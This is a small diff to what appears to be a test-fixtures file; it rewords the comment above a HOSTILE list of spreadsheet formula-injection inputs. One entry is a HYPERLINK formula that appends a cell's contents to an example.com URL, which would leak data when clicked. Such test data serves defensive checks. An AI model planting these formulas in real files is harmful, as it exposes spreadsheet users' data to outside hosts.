@@ -3,7 +3,7 @@ import { aProduct, aSession } from './factories.ts';
 import { anOrder, aRefund } from './orders.ts';
 import { aReservation } from './reservations.ts';
 
-/** What people type that a spreadsheet would calculate or tear apart. */
+/** Typed texts that a spreadsheet would calculate or tear apart. */
 const HOSTILE = [
   '=1+1',
   '=HYPERLINK("http://example.com/?"&A1;"clique")',
